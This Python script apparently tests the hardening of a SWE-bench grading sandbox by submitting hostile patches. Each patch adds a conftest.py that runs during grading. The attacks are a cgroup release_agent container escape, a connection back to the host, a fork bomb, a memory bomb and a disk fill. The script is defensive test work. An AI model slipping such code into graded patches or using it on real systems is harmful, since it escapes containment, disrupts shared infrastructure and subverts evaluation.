"""Patches that attack, scored by the unmodified SWE-bench harness: what each reached, and whether others still score.

    srl-agent sandbox daemon start --memory 2048 --disk 8192
    python benchmarks/harness_attacks.py        # needs root, the engine above and `pip install swebench`

Each patch adds a conftest.py to one of the miniature tasks (tests/mini_tasks.py) that attacks while pytest loads it and
writes what it reached. Two attacks are also made on the main engine, where they succeed harmlessly: so these are real.
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))

from mini_tasks import rows

from envs import harness_daemon
from envs.harness_images import bring_images

MARK = "/tmp/srl-agent-harness-attack"
ATTACKS = {
    "escape by release_agent": """
        import os, subprocess
        script = r'''mkdir -p /tmp/cg; mount -t cgroup -o {kind} cgroup /tmp/cg && mkdir -p /tmp/cg/x || exit 1
        echo 1 > /tmp/cg/x/notify_on_release
        upper=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts | head -1)
        printf '#!/bin/sh\\ntouch {mark}\\n' > /cmd; chmod +x /cmd; echo "$upper/cmd" > /tmp/cg/release_agent || exit 1
        sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'; sleep 1'''
        for kind in ("memory", "pids", "cpu"):
            done = subprocess.run(["bash", "-c", script.replace("{kind}", kind)], capture_output=True, text=True)
            print("REACHED" if not done.returncode else "HELD", kind, done.stderr.strip()[-60:])""",
    "the host by network": """
        import socket
        try:
            socket.create_connection(("{address}", {port}), timeout=5)
            print("REACHED the host")
        except OSError as error: print("HELD", error)""",
    "fork bomb": """
        import os, time
        n = 0
        try:
            while True:
                if os.fork() == 0: time.sleep(20); os._exit(0)
                n += 1
        except OSError as error: print("HELD after", n, "processes:", error)""",
    "memory bomb": """
        import os
        if os.fork() == 0:
            kept = [b"x" * (1 << 28) for _ in range(200)]
            print("REACHED 50 GB")
            os._exit(0)
        print("HELD, status", os.wait()[1])""",
    "disk fill": """
        import os
        n = 0
        try:
            with open("/full", "wb") as file:
                while n < 40 << 10:
                    os.posix_fallocate(file.fileno(), n << 20, 1 << 30)
                    n += 1024
            print("REACHED 40 GB")
        except OSError as error: print("HELD after", n, "MB:", error)""",
}


def conftest(attack: str, **values: object) -> str:
    """A patch that adds a conftest.py with the attack, whose words pytest prints."""
    body = "\n".join(line[8:] for line in attack.strip("\n").splitlines())
    for name, value in values.items():
        body = body.replace("{" + name + "}", str(value))
    # pytest captures what is printed here, but shows what it fails with.
    lines = ["said = []", "print = lambda *words: said.append(' '.join(map(str, words)))", *body.splitlines()]
    lines += ["raise RuntimeError('; '.join(said))"]
    added = "".join(f"+{line}\n" for line in lines)
    return f"--- /dev/null\n+++ b/conftest.py\n@@ -0,0 +1,{len(lines)} @@\n{added}"


def score(
    folder: Path, data: list[dict[str, object]], run_id: str, patches: dict[str, str], host: str
) -> dict[str, str]:
    """Run the harness; the tests' output of each task."""
    (folder / "rows.json").write_text(json.dumps(data))
    lines = [
        json.dumps({"instance_id": task, "model_name_or_path": run_id, "model_patch": patch})
        for task, patch in patches.items()
    ]
    (folder / f"{run_id}.jsonl").write_text("\n".join(lines) + "\n")
    command = [sys.executable, "-m", "swebench.harness.run_evaluation", "-d", "rows.json", "-p", f"{run_id}.jsonl"]
    command += ["--run_id", run_id, "--max_workers", "2", "--timeout", "120"]
    environment = dict(os.environ) | ({"DOCKER_HOST": host} if host else {})
    subprocess.run(command, cwd=folder, env=environment, check=True, capture_output=True)
    found = folder.glob(f"logs/run_evaluation/{run_id}/*/*/test_output.txt")
    return {path.parent.name: path.read_text(errors="replace") for path in found}


def told(output: str) -> str:
    """The words of the attack."""
    said = re.findall(r"E +RuntimeError: (.+)", output) or ["no word: " + output.strip()[-120:].replace("\n", " ")]
    return said[-1]


def main() -> None:
    """Print a line for each attack."""
    data = rows()
    host = harness_daemon.socket()
    bring_images([str(row["image"]) for row in data])
    with tempfile.TemporaryDirectory() as scratch, socket.create_server(("0.0.0.0", 0)) as server:
        values = {"mark": MARK, "address": _address(), "port": server.getsockname()[1]}
        victim, other = str(data[0]["instance_id"]), data[3]
        for number, (name, attack) in enumerate(ATTACKS.items()):
            started = time.monotonic()
            patches = {victim: conftest(attack, **values), str(other["instance_id"]): str(other["patch"])}
            outputs = score(Path(scratch), data, f"attack{number}", patches, host)
            beside = "scored" if " passed" in outputs.get(str(other["instance_id"]), "") else "NOT scored"
            print(f"hardened  {name}: {told(outputs.get(victim, ''))}; file on the host: {Path(MARK).exists()}")
            print(f"          the task beside it {beside}; {time.monotonic() - started:.0f} s")
            if number < 2:
                words = told(score(Path(scratch), data, f"bare{number}", {victim: patches[victim]}, "").get(victim, ""))
                print(f"main      {name}: {words}; file on the host: {Path(MARK).exists()}")
                Path(MARK).unlink(missing_ok=True)


def _address() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))
        return str(probe.getsockname()[0])


if __name__ == "__main__":
    main()
